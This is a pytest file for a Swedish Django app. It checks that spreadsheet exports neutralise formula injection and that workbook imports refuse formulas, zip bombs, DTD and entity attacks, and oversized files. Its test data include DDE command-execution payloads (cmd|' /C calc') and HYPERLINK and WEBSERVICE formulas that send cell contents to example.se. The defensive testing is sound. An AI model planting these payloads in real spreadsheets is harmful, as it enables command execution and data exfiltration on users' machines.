"""Safe spreadsheets end to end: text that a spreadsheet could take for a
formula, typed into the goal document's form or brought in by the web
import, comes out of every workbook the app writes as text, never as a
formula; a formula in an uploaded workbook is refused; and the import is
bounded: files too large, too many rows, a zip bomb, a DTD, external
entities and "billion laughs" are refused with a Swedish message, fast,
in a small reply, never with a 500."""

import datetime
import io
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from mapping.columns import COLUMN, HEADERS, TEXT_HEADERS
from mapping.models import GoalDocument
from operations.workbook import import_workbook
from participants.models import Participant
from rattinsats.personnummer import format_canonical
from tests.conftest import client_for
from tests.factories import ConsentFactory, UserFactory, next_personnummer, organisation
from tests.job_files import download_via_job
from tests.xlsx_files import (
    DECLARATION,
    ENTITY_PROLOGS,
    WORKBOOK,
    Formula,
    big_workbook,
    has_formula,
    sheet,
    with_prolog,
    workbook,
    zip_bomb,
)

pytestmark = pytest.mark.django_db

IMPORT_URL = "operations:goal_document_import"
ONE_MB = 1024 * 1024
TODAY = timezone.localdate()

# What a spreadsheet would run (the classic payloads of CWE-1236), one per
# first character it takes for a formula.
RISKY = {
    "=": '=HYPERLINK("https://example.se/?d="&A1,"Klicka här")',
    "+": "+SUM(1,2)*cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def month_start() -> datetime.date:
    """The first day of last month: a start then is a change in that month's
    exchange."""
    return (TODAY.replace(day=1) - datetime.timedelta(days=1)).replace(day=1)


def import_row(**values) -> list:
    defaults = {
        "Personnummer": format_canonical(next_personnummer()),
        "Namn": "Alva Testsson",
        "Kön": "Kvinna",
        "Ansvarig": "owner",
        "Startdatum": month_start().isoformat(),
        "SUS-samtycke": "Ja",
        "Målgrupp": "FS",
    }
    defaults.update(values)
    return [defaults.get(h) for h in HEADERS]


def upload(client, data: bytes, name: str = "maldokument.xlsx"):
    """Upload through the page; the import is a background job (run at once
    in the tests), whose page, followed to, shows the outcome."""
    file = SimpleUploadedFile(name, data, content_type="application/octet-stream")
    return client.post(reverse(IMPORT_URL), {"file": file}, follow=True)


def imported(response) -> bool:
    """The upload led to its job's page, which says what was imported."""
    return (
        response.status_code == 200
        and bool(response.redirect_chain)
        and response.redirect_chain[-1][0].startswith("/jobb/")
        and "importerades från måldokumentet" in response.content.decode()
    )


def download(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def string_values(xlsx: bytes) -> set[str]:
    """Every string cell's text in every sheet."""
    wb = load_workbook(io.BytesIO(xlsx))
    return {
        c.value
        for ws in wb.worksheets
        for r in ws.iter_rows()
        for c in r
        if c.data_type == "s" and isinstance(c.value, str)
    }


# --- Formula injection: from the form and from the import into every export ---


def test_risky_text_typed_into_the_goal_document_is_text_in_the_export(owner, participant):
    texts = {
        "goal": RISKY["="],
        "delmal_1": RISKY["+"],
        "delmal_2": RISKY["-"],
        "delmal_3": RISKY["@"],
        "continuation_reason": '=WEBSERVICE("https://example.se/?"&B2)',
        "employment_subsidy": "=1+1",
        "other": "@SUM(A1:A9)",
    }
    client = client_for(owner)
    response = client.post(reverse("mapping:goals", args=[participant.pk]), {"version": 0, **texts})
    assert response.status_code == 302
    document = GoalDocument.objects.get(participant=participant)
    assert {name: getattr(document, name) for name in texts} == texts  # stored as typed

    xlsx = download(download_via_job(client, reverse("operations:goal_document_export")))
    assert not has_formula(xlsx)
    ws = load_workbook(io.BytesIO(xlsx)).active
    by_header = {h: ws[f"{COLUMN[h]}2"] for h in TEXT_HEADERS}
    assert [c.value for c in by_header.values()] == [
        texts["goal"],
        texts["delmal_1"],
        texts["delmal_2"],
        texts["delmal_3"],
        texts["continuation_reason"],
        texts["employment_subsidy"],
        texts["other"],
    ]
    for c in by_header.values():
        assert c.data_type == "s" and c.quotePrefix  # text, and stays text when edited


def test_risky_text_imported_on_the_web_is_text_in_every_export(owner, administrator):
    """One workbook through the upload page: risky text in every free-text
    column and in the name; then every export that can show it."""
    af = organisation("arbetsformedlingen")
    texts = dict(zip(TEXT_HEADERS, [*RISKY.values(), "=1+1"], strict=True))
    name = f"{RISKY['=']} Testsson"
    data = workbook(
        sheet(
            [
                HEADERS,
                import_row(
                    Namn=name,
                    **texts,
                    **{"Mån 1–3": "Praktik/arbetsprövning"},
                ),
            ]
        )
    )
    client = client_for(owner)
    response = upload(client, data)
    assert imported(response), response.content.decode()[:2000]
    participant = Participant.objects.get()
    assert participant.first_name == RISKY["="]
    document = GoalDocument.objects.get(participant=participant)
    stored = [
        document.goal,
        document.delmal_1,
        document.delmal_2,
        document.delmal_3,
        document.continuation_reason,
        document.employment_subsidy,
        document.other,
    ]
    # Stored as text (the import trims the whitespace around a value).
    assert stored == [texts[h].strip() for h in TEXT_HEADERS]
    ConsentFactory(participant=participant, signed_on=month_start(), organisations=[af])
    # A staff member whose name is risky too, for the results' filter line.
    risky_staff = UserFactory(username="risky", first_name=RISKY["@"], role=owner.role)
    # The owner reads the participant: the access-log review lists the read.
    assert client.get(reverse("participants:detail", args=[participant.pk])).status_code == 200

    exports = {
        "goal document": download(
            download_via_job(client, reverse("operations:goal_document_export"))
        ),
        "monthly exchange": download(
            download_via_job(
                client,
                reverse("reports:monthly_xlsx"),
                {"month": f"{month_start():%Y-%m}", "organisation": af.pk},
            )
        ),
        "results": download(
            client.get(
                reverse("reports:results_xlsx"),
                {"responsible": risky_staff.pk, "organisation": af.pk},
            )
        ),
        "access-log review": download(
            download_via_job(
                client_for(administrator),
                reverse("operations:access_review_excel"),
                {"start": (TODAY - datetime.timedelta(days=1)).isoformat(), "end": TODAY},
            )
        ),
    }
    expected = {
        "goal document": {RISKY["="], *(texts[h].strip() for h in TEXT_HEADERS)},
        "monthly exchange": {name},
        "results": {f"{RISKY['@']} {risky_staff.last_name}".strip()},
        "access-log review": {name},
    }
    for export, xlsx in exports.items():
        assert not has_formula(xlsx), export
        assert expected[export] <= string_values(xlsx), export


# --- What the import does with formulas and risky text -----------------------


def test_a_formula_in_an_uploaded_workbook_is_refused_with_its_row_and_column(owner):
    data = workbook(
        sheet(
            [
                HEADERS,
                import_row(),
                import_row(**{"Mål": Formula('HYPERLINK("https://example.se","x")', "x")}),
            ]
        )
    )
    response = upload(client_for(owner), data)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Ingenting importerades: 1 fel i arbetsboken." in html
    assert "H (Mål)" in html
    assert "Cellen innehåller en formel. Formler importeras inte" in html
    assert "<td>3</td>" in html
    assert not Participant.objects.exists()


def test_a_formula_is_one_problem_even_in_a_required_column(owner):
    data = workbook(sheet([HEADERS, import_row(Startdatum=Formula("TODAY()", "45000"))]))
    result = import_workbook(io.BytesIO(data), actor=owner)
    assert [str(p) for p in result.problems] == [
        "Rad 2, kolumn E (Startdatum): Cellen innehåller en formel. Formler importeras "
        "inte: skriv in värdet som text eller tal."
    ]


@pytest.mark.parametrize("text", ["=1+1", "+46 70 123 45 67", "-5 kr", "@hemma"])
def test_text_that_starts_like_a_formula_is_imported_as_text(owner, text):
    data = workbook(sheet([HEADERS, import_row(**{"Mål": text, "Övrigt": text})]))
    result = import_workbook(io.BytesIO(data), actor=owner)
    assert result.ok, [str(p) for p in result.problems]
    document = GoalDocument.objects.get()
    assert (document.goal, document.other) == (text, text)


# --- Bounded imports ---------------------------------------------------------------


def assert_refused(response, message: str):
    """Refused whole, in Swedish, in a small reply, nothing imported."""
    assert response.status_code in (200, 400)
    assert len(response.content) < ONE_MB
    html = response.content.decode()
    assert "Ingenting importerades" in html or response.status_code == 400
    assert message in html
    assert not Participant.objects.exists()


def test_the_300000_row_workbook_is_refused_fast_by_the_row_cap(owner, settings):
    data = big_workbook(HEADERS, rows=300_000)
    # Small enough on the wire and unpacked: the rows are what is too much.
    assert len(data) < settings.RATTINSATS_GOAL_IMPORT_MAX_BYTES
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        unpacked = sum(m.file_size for m in archive.infolist())
    assert 15 * ONE_MB < unpacked < settings.RATTINSATS_GOAL_IMPORT_MAX_UNZIPPED_BYTES
    client = client_for(owner)
    started = time.perf_counter()
    response = upload(client, data)
    elapsed = time.perf_counter() - started
    assert_refused(response, "Arbetsboken har fler än 5\u00a0000 rader under rubrikraden.")
    assert elapsed < 10, elapsed  # measured: well under a second


def test_the_big_workbook_stays_small_in_memory(owner):
    data = big_workbook(HEADERS, rows=300_000)
    tracemalloc.start()
    try:
        result = import_workbook(io.BytesIO(data), actor=owner)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert not result.ok
    assert peak < 100 * ONE_MB, peak / ONE_MB


def test_a_workbook_with_a_row_numbered_past_the_cap_is_refused(owner, settings):
    settings.RATTINSATS_GOAL_IMPORT_MAX_ROWS = 10
    xml = "".join(sheet([HEADERS, import_row()])).replace(
        "</sheetData>", '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'
    )
    response = upload(client_for(owner), workbook(xml))
    assert_refused(response, "Arbetsboken har fler än 10 rader under rubrikraden.")


def test_a_zip_bomb_is_refused_before_it_is_unpacked(owner):
    data = zip_bomb(HEADERS, unpacked=100 * ONE_MB)
    assert len(data) < ONE_MB
    started = time.perf_counter()
    response = upload(client_for(owner), data)
    assert time.perf_counter() - started < 5
    assert_refused(response, "Arbetsboken är för stor uppackad: högst 25\u00a0MB.")


def test_a_file_over_the_size_cap_is_refused(owner, settings):
    settings.RATTINSATS_GOAL_IMPORT_MAX_BYTES = 2048
    data = workbook(sheet([HEADERS, *[import_row(Namn=f"Person{i} Testsson") for i in range(40)]]))
    assert len(data) > 2048
    result = import_workbook(io.BytesIO(data), actor=owner)
    assert [str(p) for p in result.problems] == ["Filen är för stor: högst 2\u00a0kB tas emot."]


def test_a_request_over_the_size_cap_is_refused_before_it_is_read(owner, settings):
    settings.RATTINSATS_GOAL_IMPORT_MAX_BYTES = 1024 * 1024
    data = b"PK" + b"\0" * (2 * 1024 * 1024)
    response = upload(client_for(owner), data)
    assert response.status_code == 400
    assert "Filen är för stor: högst 1\u00a0MB tas emot." in response.content.decode()
    assert not Participant.objects.exists()


@pytest.mark.parametrize("attack", ["dtd", "external", "billion_laughs"])
@pytest.mark.parametrize("part", ["sheet", "workbook"])
def test_xml_attacks_get_a_swedish_message_and_never_a_500(owner, attack, part):
    prolog = ENTITY_PROLOGS[attack]
    reference = {"dtd": "", "external": "&x;", "billion_laughs": "&a9;"}[attack]
    if part == "sheet":
        xml = "".join(sheet([HEADERS, import_row()], prolog=prolog))
        xml = xml.replace('<t xml:space="preserve">Alva Testsson', f"<t>{reference}Alva")
        data = workbook(xml)
    else:
        data = workbook(
            sheet([HEADERS, import_row()]),
            parts={"xl/workbook.xml": with_prolog(WORKBOOK, prolog)},
        )
    started = time.perf_counter()
    response = upload(client_for(owner), data)
    assert time.perf_counter() - started < 5
    assert_refused(response, "Filen innehåller en dokumenttypdefinition (DTD) eller entiteter")


def test_a_utf16_dtd_is_refused_too(owner):
    xml = with_prolog(WORKBOOK, ENTITY_PROLOGS["billion_laughs"]).replace(
        'encoding="UTF-8"', 'encoding="UTF-16"'
    )
    data = workbook(
        sheet([HEADERS, import_row()]),
        parts={"xl/workbook.xml": xml.encode("utf-16")},
    )
    response = upload(client_for(owner), data)
    assert_refused(response, "Filen innehåller en dokumenttypdefinition (DTD) eller entiteter")


def test_a_row_wider_than_excel_allows_is_refused(owner):
    wide = '<row r="2">' + "<c/>" * 20_000 + "</row>"
    xml = "".join(sheet([HEADERS])).replace("</sheetData>", wide + "</sheetData>")
    response = upload(client_for(owner), workbook(xml))
    assert_refused(response, "Arbetsboken har fler delar, celler per rad eller element")


def test_a_part_with_too_many_elements_is_refused(owner):
    styles = (
        DECLARATION
        + '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + "<numFmts>"
        + "<numFmt/>" * 150_000
        + "</numFmts></styleSheet>"
    )
    data = workbook(sheet([HEADERS, import_row()]), parts={"xl/styles.xml": styles})
    response = upload(client_for(owner), data)
    assert_refused(response, "Arbetsboken har fler delar, celler per rad eller element")


def test_a_file_that_is_no_zip_gets_the_swedish_message(owner):
    response = upload(client_for(owner), DECLARATION.encode() + b"<worksheet/>")
    assert_refused(response, "Filen är inte en Excel-arbetsbok (.xlsx).")


def test_the_problems_listed_are_capped_with_a_count_of_the_others(owner, settings):
    """5,000 rows, each with four problems: the first 100 by row are shown,
    and how many more there are, in a reply far below a megabyte."""
    bad = import_row(
        Personnummer="123", Namn="X", Kön="Okänt", Startdatum="i går", **{"SUS-samtycke": None}
    )
    data = workbook(sheet([HEADERS, *([bad] * 5000)]))
    response = upload(client_for(owner), data)
    assert response.status_code == 200
    assert len(response.content) < ONE_MB
    html = response.content.decode()
    total = 5000 * 5
    assert f"Ingenting importerades: {total} fel i arbetsboken." in html
    assert f"… och {total - 100} fel till, som inte visas." in html
    assert html.count("Ogiltigt personnummer") == 20  # rows 2–21, five problems each
    assert "<td>21</td>" in html and "<td>22</td>" not in html
    assert not Participant.objects.exists()


def test_a_long_cell_is_refused_and_never_echoed_whole(owner):
    long = "ö" * 40_000
    data = workbook(sheet([HEADERS, import_row(Kön=long, **{"Mål": long})]))
    result = import_workbook(io.BytesIO(data), actor=owner)
    messages = [str(p) for p in result.problems]
    assert "Rad 2, kolumn H (Mål): Högst 32\u00a0767 tecken." in messages
    assert all(len(m) < 400 for m in messages)
    assert any(m.startswith("Rad 2, kolumn C (Kön): Okänt värde ”ööö") for m in messages)


def test_the_command_refuses_the_big_workbook_too(owner, tmp_path):
    path = tmp_path / "stor.xlsx"
    path.write_bytes(big_workbook(HEADERS, rows=300_000))
    with pytest.raises(CommandError, match="1 fel i arbetsboken"):
        call_command("import_goal_document", str(path))
    assert not Participant.objects.exists()


def test_a_good_workbook_still_imports_with_every_check_on(owner):
    data = workbook(sheet([HEADERS, *[import_row() for _ in range(3)]]))
    response = upload(client_for(owner), data)
    assert imported(response)
    assert Participant.objects.count() == 3


def test_openpyxl_reads_the_shared_strings_through_defusedxml():
    """openpyxl streams the shared strings with defusedxml whenever it is
    installed (and OPENPYXL_DEFUSEDXML is not "False"). The parts it
    parses whole go through lxml without entity resolution, and so does
    the sheet (rattinsats.sheet_reader; tests/core/test_sheet_reader.py);
    the import's own check (rattinsats.xlsx.check_upload) refuses a DTD in
    any part before either sees it."""
    import defusedxml.ElementTree
    import openpyxl
    from openpyxl.xml import functions

    assert openpyxl.DEFUSEDXML is True
    assert functions.iterparse is defusedxml.ElementTree.iterparse


def test_the_upload_page_still_checks_the_csrf_token(owner):
    """The page checks the request's size before Django's CSRF check would
    read its body, and then checks the token itself."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(owner)
    data = workbook(sheet([HEADERS, import_row()]))
    file = SimpleUploadedFile("maldokument.xlsx", data)
    assert client.post(reverse(IMPORT_URL), {"file": file}).status_code == 403
    assert not Participant.objects.exists()
    page = client.get(reverse(IMPORT_URL))
    token = page.cookies["csrftoken"].value
    file = SimpleUploadedFile("maldokument.xlsx", data)
    response = client.post(reverse(IMPORT_URL), {"file": file, "csrfmiddlewaretoken": token})
    assert response.status_code == 302
    assert Participant.objects.count() == 1
